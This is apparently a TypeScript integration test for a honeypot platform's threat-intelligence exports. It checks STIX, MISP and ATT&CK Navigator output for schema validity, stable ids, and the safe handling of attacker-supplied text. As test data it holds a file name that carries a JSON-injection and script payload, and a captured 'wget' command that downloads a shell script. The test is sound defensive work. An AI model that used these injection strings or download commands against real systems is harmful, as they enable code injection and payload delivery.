// Exports through the real API: STIX 2.1 bundles validated against the OASIS JSON schemas (ajv,
// draft 2020-12, with formats), MISP events against the MISP core format's required fields, ATT&CK
// Navigator layers against the layer format's; deterministic ids across re-exports, zero-tag scopes,
// hostile file names kept in values. Tags and identities are written as the tagger and the clusterer
// write them (their own tests cover how they are computed).
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import Ajv2020Module from 'ajv/dist/2020.js';
import addFormatsModule from 'ajv-formats';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attackTags } from '../../db/schema/attack-tags';
import { identities, identityMembers } from '../../db/schema/identities';
import { startHarness, type Harness } from '../../testing/agent-harness';

// The OASIS schemas, copied with their licence into test/vectors (a CI machine has only the repository).
const SCHEMAS = fileURLToPath(new URL('../../../../test/vectors/stix2.1-schemas', import.meta.url));
const STIX = 'http://raw.githubusercontent.com/oasis-open/cti-stix2-json-schemas/stix2.1/schemas';
const Ajv2020 = (Ajv2020Module as unknown as { default?: typeof Ajv2020Module }).default ?? Ajv2020Module;
const addFormats = (addFormatsModule as unknown as { default?: typeof addFormatsModule }).default ?? addFormatsModule;

let h: Harness;
let ajv: InstanceType<typeof Ajv2020>;
const A = '198.51.100.10';
const B = '198.51.100.11';
const C = '2001:db8::c';
const D = '198.51.100.99'; // no tags, no identity
const IDENTITY = 'f'.repeat(32);
const HOSTILE = 'x"},{"type":"identity","id":"identity--evil"}<script>alert(1)</script>.sh';
const t0 = Date.now() - 600_000;
let n = 0;
const ids: Record<string, string> = {};

const ev = (ip: string, eventType: string, fields: Record<string, string>, offsetS: number) => ({
  id: `exp-${++n}-${Math.random().toString(16).slice(2)}`, ts: new Date(t0 + offsetS * 1000).toISOString(), decky: 'web-01', service: 'ssh', eventType, srcIp: ip, srcPort: 42000 + n, fields, raw: `<134>1 - web-01 ssh - ${eventType} -`,
});

function tag(attackerId: string, technique: string, tactic: string, ruleId: string, count: number) {
  const ms = t0 + 10_000;
  return { id: `${attackerId}||${ruleId}|${technique}`, attackerId, sessionId: '', eventId: null, decky: 'web-01', service: 'ssh', ruleId, ruleVersion: 1, source: 'command', tactic, techniqueId: technique, confidence: 0.8, evidenceJson: JSON.stringify({ command: 'wget http://203.0.113.5/x.sh"}' }), firstSeenMs: ms, lastSeenMs: ms + count * 1000, count };
}

beforeAll(async () => {
  h = await startHarness();
  const a = await h.enroll('sensor-exp');
  const d = h.mtls(a.certificatePem, a.keyPem);
  const send = (events: object[]) => h.agentCall(d, '/agent/v1/events', { events });
  await send([
    ev(A, 'connect', { session_id: 'a1' }, 0),
    ev(A, 'command', { session_id: 'a1', cmd: 'ls' }, 5),
    ev(A, 'file_captured', { session_id: 'a1', sha256: 'ab'.repeat(32), size: '4096', orig_path: `/tmp/${HOSTILE}`, stored_as: 'ssh/x' }, 6),
    ev(B, 'connect', { session_id: 'b1' }, 10),
    ev(C, 'connect', { session_id: 'c1' }, 20),
    ev(D, 'connect', { session_id: 'd1' }, 30),
  ]);
  const list = (await h.api('/api/v1/attackers?limit=50')).body.items as Array<{ id: string; ip: string }>;
  for (const x of list) ids[x.ip] = x.id;
  const db = h.cp.deps.db;
  await db.insert(attackTags).values([tag(ids[A]!, 'T1105', 'command-and-control', 'R0012', 2), tag(ids[A]!, 'T1110.001', 'credential-access', 'R0002', 7), tag(ids[B]!, 'T1105', 'command-and-control', 'R0012', 1), tag(ids[C]!, 'T1105', 'command-and-control', 'R0012', 3)]);
  await db.insert(identities).values({ id: IDENTITY, firstSeenMs: t0 + 10_000, lastSeenMs: t0 + 20_000, memberCount: 2, formedAtMs: t0 + 30_000, updatedAtMs: t0 + 30_000, summaryJson: '{}' });
  await db.insert(identityMembers).values([{ attackerId: ids[B]!, identityId: IDENTITY, joinedAtMs: t0 }, { attackerId: ids[C]!, identityId: IDENTITY, joinedAtMs: t0 }]);

  // unicodeRegExp off: the OASIS patterns escape '-' (\-), which the u flag rejects.
  ajv = new Ajv2020({ strict: false, allErrors: true, unicodeRegExp: false });
  addFormats(ajv);
  for (const dir of ['common', 'sdos', 'sros', 'observables']) {
    for (const f of readdirSync(join(SCHEMAS, dir)).filter((x) => x.endsWith('.json'))) ajv.addSchema(JSON.parse(readFileSync(join(SCHEMAS, dir, f), 'utf8')) as object);
  }
}, 60_000);
afterAll(() => h?.close());

async function get(path: string) {
  const res = await h.raw(`/api/v1/exports/${path}`);
  return { status: res.status, disposition: res.headers.get('content-disposition'), body: (await res.json()) as any };
}

const SCHEMA_OF: Record<string, string> = { bundle: 'common/bundle', identity: 'sdos/identity', 'threat-actor': 'sdos/threat-actor', 'attack-pattern': 'sdos/attack-pattern', 'observed-data': 'sdos/observed-data', relationship: 'sros/relationship', sighting: 'sros/sighting', 'ipv4-addr': 'observables/ipv4-addr', 'ipv6-addr': 'observables/ipv6-addr', file: 'observables/file' };
function expectValidStix(bundle: { objects: Array<{ type: string; id: string }> }) {
  const check = (schema: string, value: unknown) => {
    const validate = ajv.getSchema(`${STIX}/${schema}.json`)!;
    expect(validate(value) ? [] : validate.errors, schema).toEqual([]);
  };
  check('common/bundle', bundle);
  for (const o of bundle.objects) check(SCHEMA_OF[o.type]!, o);
  expect(new Set(bundle.objects.map((o) => o.id)).size).toBe(bundle.objects.length);
  // Every reference resolves inside the bundle.
  const known = new Set(bundle.objects.map((o) => o.id));
  for (const o of bundle.objects as Array<Record<string, unknown>>) {
    for (const [k, v] of Object.entries(o)) {
      if (k.endsWith('_ref')) expect(known.has(v as string), `${o.id}.${k}`).toBe(true);
      if (k.endsWith('_refs')) for (const r of v as string[]) expect(known.has(r), `${o.id}.${k}`).toBe(true);
    }
  }
}

/** Every key in the document is ours: attacker text never becomes a key. */
function keysOf(v: unknown, out = new Set<string>()): Set<string> {
  if (Array.isArray(v)) v.forEach((x) => keysOf(x, out));
  else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) (out.add(k), keysOf(x, out));
  return out;
}

describe('STIX 2.1 export', () => {
  it('gives the fleet as a bundle the OASIS schemas accept, with actors, techniques, uses, sightings and files', async () => {
    const r = await get('fleet/stix');
    expect(r.status).toBe(200);
    expect(r.disposition).toBe('attachment; filename="decnet-fleet.stix.json"');
    expectValidStix(r.body);
    const of = (type: string) => r.body.objects.filter((o: { type: string }) => o.type === type);
    expect(of('ipv4-addr').map((o: { value: string }) => o.value).sort()).toEqual([A, B, D].sort());
    expect(of('ipv6-addr').map((o: { value: string }) => o.value)).toEqual([C]);
    expect(of('observed-data')).toHaveLength(4);
    // A and D on their own, B and C as one identity.
    expect(of('threat-actor').map((o: { name: string }) => o.name).sort()).toEqual([`Attacker ${A}`, `Attacker ${D}`, `DECNET identity ${IDENTITY.slice(0, 12)}`]);
    const patterns = of('attack-pattern');
    expect(patterns.map((p: { external_references: Array<{ external_id: string }> }) => p.external_references[0]!.external_id).sort()).toEqual(['T1105', 'T1110.001']);
    expect(patterns.find((p: { name: string }) => p.name === 'Brute Force: Password Guessing')).toBeTruthy();
    // uses: A -> T1105, A -> T1110.001, identity -> T1105 (once for both members).
    // (plus whatever the ingest tagger itself derived from these events: counted from the table).
    const tags = await h.cp.deps.db.select().from(attackTags);
    const actorOf = (id: string) => (id === ids[B] || id === ids[C] ? 'identity' : id);
    expect(of('relationship')).toHaveLength(new Set(tags.map((t) => `${actorOf(t.attackerId)}|${t.techniqueId}`)).size);
    expect(of('relationship').length).toBeGreaterThanOrEqual(3);
    expect(of('sighting')).toHaveLength(tags.length);
    expect(of('sighting').find((s: { count: number }) => s.count === 7)).toBeTruthy();
    const file = of('file')[0];
    expect(file.hashes['SHA-256']).toBe('ab'.repeat(32));
    expect(file.name).toBe(HOSTILE.split('/').pop()); // STIX file.name is the base name
    expect(of('observed-data').find((o: { object_refs: string[] }) => o.object_refs.includes(file.id))).toBeTruthy();
    expect([...keysOf(r.body)].every((k) => /^[A-Za-z0-9_-]{1,32}$/.test(k))).toBe(true);
  });

  it('keeps every object id across re-exports (a consumer updates rather than duplicates)', async () => {
    const first = await get('fleet/stix');
    const again = await get('fleet/stix');
    expect(again.body).toEqual(first.body);
    const ip = first.body.objects.find((o: { value?: string }) => o.value === A);
    // STIX §2.9: the SCO id is UUIDv5 over {"value": ...} in the SCO namespace, whoever computes it.
    expect(ip.id).toMatch(/^ipv4-addr--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    const attacker = await get(`attackers/${ids[A]}/stix`);
    expectValidStix(attacker.body);
    const shared = attacker.body.objects.map((o: { id: string }) => o.id);
    const fleetIds = new Set(first.body.objects.map((o: { id: string }) => o.id));
    expect(shared.every((id: string) => fleetIds.has(id))).toBe(true);
  });

  it('exports an attacker with no tags and an identity, both valid', async () => {
    const lone = await get(`attackers/${ids[D]}/stix`);
    expectValidStix(lone.body);
    expect(lone.body.objects.map((o: { type: string }) => o.type).sort()).toEqual(['identity', 'ipv4-addr', 'observed-data', 'threat-actor']);
    const ident = await get(`identities/${IDENTITY}/stix`);
    expectValidStix(ident.body);
    expect(ident.body.objects.filter((o: { type: string }) => o.type === 'observed-data')).toHaveLength(2);
    expect(ident.disposition).toContain(`decnet-identity-${IDENTITY.slice(0, 12)}.stix.json`);
  });
});

const MISP_EVENT_REQUIRED = ['uuid', 'info', 'date', 'threat_level_id', 'analysis', 'published', 'timestamp', 'distribution', 'Orgc', 'Attribute'];
const MISP_ATTR_REQUIRED = ['uuid', 'type', 'category', 'value', 'to_ids', 'timestamp', 'distribution'];
function expectMispEvent(e: Record<string, any>) {
  for (const k of MISP_EVENT_REQUIRED) expect(e, k).toHaveProperty(k);
  expect(e.uuid).toMatch(/^[0-9a-f-]{36}$/);
  expect(e.date).toMatch(/^\d{4}-\d{2}-\d{2}$/);
  expect(['1', '2', '3', '4']).toContain(e.threat_level_id);
  expect(['0', '1', '2']).toContain(e.analysis);
  expect(e.timestamp).toMatch(/^\d+$/);
  for (const a of e.Attribute) for (const k of MISP_ATTR_REQUIRED) expect(a, k).toHaveProperty(k);
}

describe('MISP export', () => {
  it('gives the fleet as {response: [events]} and each scope as one event with the core format fields', async () => {
    const fleet = await get('fleet/misp');
    expect(fleet.body.response).toHaveLength(3);
    for (const e of fleet.body.response) expectMispEvent(e.Event);
    const a = await get(`attackers/${ids[A]}/misp`);
    expectMispEvent(a.body.Event);
    const values = a.body.Event.Attribute.map((x: { type: string; value: string }) => `${x.type}=${x.value}`);
    expect(values).toEqual(expect.arrayContaining([`ip-src=${A}`, `sha256=${'ab'.repeat(32)}`, `filename=/tmp/${HOSTILE}`]));
    expect(a.body.Event.Tag.map((t: { name: string }) => t.name)).toContain('misp-galaxy:mitre-attack-pattern="Brute Force: Password Guessing - T1110.001"');
    const ident = await get(`identities/${IDENTITY}/misp`);
    expect(ident.body.Event.Attribute.map((x: { value: string }) => x.value).sort()).toEqual([B, C].sort());
    expect((await get(`attackers/${ids[A]}/misp`)).body.Event.uuid).toBe(a.body.Event.uuid);
    expectMispEvent((await get(`attackers/${ids[D]}/misp`)).body.Event);
  });
});

describe('ATT&CK Navigator export', () => {
  it('gives layers with the layer format fields, scored by attackers per technique', async () => {
    const fleet = await get('fleet/navigator');
    const L = fleet.body;
    expect(L).toMatchObject({ name: 'DECNET-TS fleet', domain: 'enterprise-attack', versions: { layer: '4.5', attack: expect.stringMatching(/^\d+$/) } });
    for (const t of L.techniques) expect(t).toEqual(expect.objectContaining({ techniqueID: expect.stringMatching(/^T\d{4}(\.\d{3})?$/), tactic: expect.any(String), score: expect.any(Number) }));
    expect(L.techniques.find((t: { techniqueID: string }) => t.techniqueID === 'T1105').score).toBe(3);
    expect(L.gradient.maxValue).toBe(3);
    const ident = (await get(`identities/${IDENTITY}/navigator`)).body;
    expect(ident.techniques.map((t: { techniqueID: string; score: number }) => [t.techniqueID, t.score])).toEqual([['T1105', 2]]);
    expect((await get(`attackers/${ids[D]}/navigator`)).body.techniques).toEqual([]);
  });

  it('answers 404 for unknown scopes, 422 for bad ids and formats, 401 without a login', async () => {
    expect((await get(`attackers/${'0'.repeat(32)}/stix`)).status).toBe(404);
    expect((await get(`identities/${'0'.repeat(32)}/misp`)).status).toBe(404);
    expect((await get('attackers/nothex/stix')).status).toBe(422);
    expect((await get('fleet/csv')).status).toBe(422);
    expect((await fetch(`${h.cp.url}/api/v1/exports/fleet/stix`)).status).toBe(401);
  });
});
